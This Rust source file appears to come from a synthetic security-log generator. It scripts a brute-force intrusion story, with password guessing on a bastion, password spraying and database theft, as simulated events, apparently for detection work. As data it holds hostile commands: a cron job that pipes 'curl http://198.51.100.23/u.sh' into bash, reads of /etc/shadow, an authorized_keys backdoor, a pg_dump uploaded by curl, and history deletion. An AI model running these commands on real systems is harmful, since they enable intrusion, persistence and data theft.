//! A door to the internet, a weak password, and what lies behind.

use super::{ATTACKER, Stage, Step, Story};
use crate::{
    moment::{Moment, millis, seconds},
    servers,
    windows::{
        Account,
        logon::{LogonType, Refusal},
    },
};

pub(super) static STORY: Story = Story {
    name: "brute-force",
    title: "Passwords guessed, from the bastion to the database",
    summary: "A program guesses the password of an account on the bastion. The attacker leaves a key and a job that comes \
              back, tries one password on every account of the domain, and copies the database.",
    begins_at: 2 * 60 + 15,
    steps: &[
        Step {
            name: "guess",
            after: 0,
            technique: "T1110.001",
            what: "Ninety passwords for one account on the bastion in six minutes",
            play: guess,
        },
        Step {
            name: "in",
            after: 7,
            technique: "T1078.003",
            what: "A log-in by password from the same address succeeds",
            play: log_in,
        },
        Step {
            name: "look around",
            after: 9,
            technique: "T1087.001",
            what: "Who is here, which machine is this, what may I do",
            play: look_around,
        },
        Step {
            name: "stay",
            after: 14,
            technique: "T1098.004",
            what: "A key is added for log-ins, and a job that fetches a script",
            play: stay,
        },
        Step {
            name: "spray",
            after: 25,
            technique: "T1110.003",
            what: "One password is tried on forty accounts of the domain from the bastion",
            play: spray,
        },
        Step {
            name: "database",
            after: 48,
            technique: "T1005",
            what: "A log-in at the database server; the database is dumped, packed and sent out",
            play: database,
        },
    ],
};

/// An account for deliveries that nobody thinks of.
const ACCOUNT: &str = "ftpsync";

fn guess(stage: &mut Stage<'_>, at: Moment) {
    let door = stage.host("bastion01");
    for turn in 0..90 {
        let at = at + seconds(4 * turn) + millis(stage.scene.random.between(0, 900));
        servers::refused_login(stage.scene, door, at, ACCOUNT, ATTACKER, true);
    }
}

fn log_in(stage: &mut Stage<'_>, at: Moment) {
    let door = stage.host("bastion01");
    let identity = servers::password_login(stage.scene, door, at, ACCOUNT, ATTACKER);
    stage.cast.identity = Some(identity);
}

fn run(stage: &mut Stage<'_>, at: Moment, host: &str, commands: &[&[&str]]) {
    let identity = stage.cast.identity.clone().expect("the attacker logged in before");
    let host = stage.host(host);
    for (index, command) in commands.iter().enumerate() {
        servers::exec(stage.scene, host, at + seconds(6 * index as i64), &identity, command);
    }
}

fn look_around(stage: &mut Stage<'_>, at: Moment) {
    let commands: [&[&str]; 6] = [
        &["/usr/bin/id"],
        &["/usr/bin/uname", "-a"],
        &["/usr/bin/cat", "/etc/passwd"],
        &["/usr/bin/sudo", "-l"],
        &["/usr/bin/find", "/home", "-name", "id_rsa"],
        &["/usr/bin/ss", "-tlnp"],
    ];
    run(stage, at, "bastion01", &commands);
    let (identity, door) = (stage.cast.identity.clone(), stage.host("bastion01"));
    if let Some(identity) = identity {
        servers::sudo(stage.scene, door, at + seconds(50), &identity, "/usr/bin/cat /etc/shadow");
    }
}

fn stay(stage: &mut Stage<'_>, at: Moment) {
    let commands: [&[&str]; 4] = [
        &[
            "/usr/bin/bash",
            "-c",
            "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN4Cr3JXqmLW7u x@x >> /home/ftpsync/.ssh/authorized_keys",
        ],
        &["/usr/bin/tee", "-a", "/home/ftpsync/.ssh/authorized_keys"],
        &[
            "/usr/bin/bash",
            "-c",
            "(crontab -l; echo '*/15 * * * * curl -s http://198.51.100.23/u.sh | bash') | crontab -",
        ],
        &["/usr/bin/crontab", "-"],
    ];
    run(stage, at, "bastion01", &commands);
    let door = stage.host("bastion01");
    servers::log(stage.scene, door, at + seconds(19), "crontab", "(ftpsync) REPLACE (ftpsync)");
    let from = stage.address("bastion01");
    for turn in 0..2 {
        let at = at + seconds(900 * turn + 60);
        servers::log(
            stage.scene,
            door,
            at,
            "CRON",
            "(ftpsync) CMD (curl -s http://198.51.100.23/u.sh | bash)",
        );
        let identity = stage.cast.identity.clone().expect("the attacker logged in before");
        servers::exec(
            stage.scene,
            door,
            at,
            &identity,
            &["/usr/bin/curl", "-s", "http://198.51.100.23/u.sh"],
        );
        let request = crate::network::Request {
            at,
            client: door,
            method: "GET",
            name: ATTACKER,
            path: "/u.sh",
            agent: "curl/7.88.1",
            sent: 0,
            received: 2214,
            mime: "text/x-shellscript",
        };
        stage.scene.http(&from, (ATTACKER, 80), "/u.sh", request);
    }
}

fn spray(stage: &mut Stage<'_>, at: Moment) {
    let controller = stage.host("DC01");
    let (from, to) = (stage.address("bastion01"), stage.address("DC01"));
    let people = stage.scene.world.people.clone();
    for (turn, person) in people.iter().take(40).enumerate() {
        let at = at + seconds(11 * turn as i64);
        stage.flow(at, &from, (&to, 445), "smb,ntlm", 1300, 900);
        stage.scene.ntlm_check(controller, at + millis(20), &person.login, "BASTION01", "0xc000006a");
        stage.scene.failed_logon(
            controller,
            at + millis(30),
            &person.login,
            Refusal::WrongPassword,
            ("BASTION01", &from, LogonType::Network),
        );
    }
    for (turn, name) in ["administrator", "backup", "scanner", "sqlsvc"].into_iter().enumerate() {
        let at = at + seconds(450 + 8 * turn as i64);
        stage.scene.failed_logon(
            controller,
            at,
            name,
            Refusal::NoSuchUser,
            ("BASTION01", &from, LogonType::Network),
        );
    }
    let lucky = people.get(17).unwrap_or(&people[0]).clone();
    let account = Account { terminal: 0, ..Account::person(&lucky, stage.scene.new_logon_id()) };
    let at = at + seconds(500);
    stage.scene.ntlm_check(controller, at, &lucky.login, "BASTION01", "0x0");
    stage.scene.ntlm_logon(controller, at + millis(40), &account, "BASTION01", &from);
}

fn database(stage: &mut Stage<'_>, at: Moment) {
    let server = stage.host("db01");
    let from = stage.address("bastion01");
    let identity = servers::password_login(stage.scene, server, at, ACCOUNT, &from);
    stage.cast.identity = Some(identity);
    let commands: [&[&str]; 5] = [
        &["/usr/bin/pg_dump", "-h", "localhost", "-U", "portal", "-f", "/tmp/.p.sql", "portal"],
        &["/usr/bin/tar", "-czf", "/tmp/.p.tgz", "/tmp/.p.sql"],
        &["/usr/bin/curl", "-s", "-T", "/tmp/.p.tgz", "http://198.51.100.23/in/"],
        &["/usr/bin/rm", "-f", "/tmp/.p.sql", "/tmp/.p.tgz"],
        &["/usr/bin/rm", "-f", "/home/ftpsync/.bash_history"],
    ];
    run(stage, at + seconds(20), "db01", &commands);
    let from = stage.address("db01");
    let request = crate::network::Request {
        at: at + seconds(33),
        client: server,
        method: "PUT",
        name: ATTACKER,
        path: "/in/.p.tgz",
        agent: "curl/7.88.1",
        sent: 412_000_000,
        received: 31,
        mime: "application/x-gzip",
    };
    stage.scene.http(&from, (ATTACKER, 80), "/in/.p.tgz", request);
}
